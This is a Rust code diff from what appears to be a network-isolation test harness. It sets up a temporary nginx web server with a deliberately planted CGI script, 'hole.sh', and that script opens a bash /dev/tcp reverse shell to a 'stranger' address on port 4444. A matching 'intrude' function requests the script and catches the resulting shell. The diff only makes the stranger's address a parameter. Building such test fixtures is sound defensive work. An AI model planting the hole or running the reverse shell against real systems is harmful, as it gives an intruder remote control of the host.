@@ -19,6 +19,11 @@ pub struct WebServer {
 
 impl WebServer {
     pub fn start(host: &Network) -> Self {
+        Self::start_calling(host, STRANGER)
+    }
+
+    /// One whose hole calls this address.
+    pub fn start_calling(host: &Network, stranger: &str) -> Self {
         let directory = tempfile::Builder::new().prefix("bartizan-web-").tempdir().unwrap();
         let nginx = directory.path().join("nginx");
         let busybox = ["/usr/bin/busybox", "/bin/busybox"].into_iter().find(|path| std::path::Path::new(path).is_file()).unwrap();
@@ -27,7 +32,7 @@ impl WebServer {
         std::fs::create_dir(&cgi).unwrap();
         let hole = cgi.join("hole.sh");
         let call = format!(
-            "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nexec bash -c 'exec 3<>/dev/tcp/{STRANGER}/4444 && exec sh <&3 >&3 2>&3'\n"
+            "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nexec bash -c 'exec 3<>/dev/tcp/{stranger}/4444 && exec sh <&3 >&3 2>&3'\n"
         );
         std::fs::write(&hole, call).unwrap();
         std::fs::set_permissions(&hole, std::fs::Permissions::from_mode(0o755)).unwrap();
@@ -60,7 +65,12 @@ pub struct StolenShell(TcpStream);
 
 /// The stranger asks for the hole and catches the shell that calls.
 pub fn intrude(stranger: &Network) -> StolenShell {
-    let listener = stranger.within(|| TcpListener::bind((STRANGER, 4444)).unwrap());
+    intrude_from(stranger, STRANGER)
+}
+
+/// The same from this address.
+pub fn intrude_from(stranger: &Network, address: &str) -> StolenShell {
+    let listener = stranger.within(|| TcpListener::bind((address, 4444)).unwrap());
     listener.set_nonblocking(true).unwrap();
     let mut request = stranger.within(|| TcpStream::connect((HOST, 8080)).unwrap());
     request.write_all(b"GET /cgi-bin/hole.sh HTTP/1.0\r\n\r\n").unwrap();
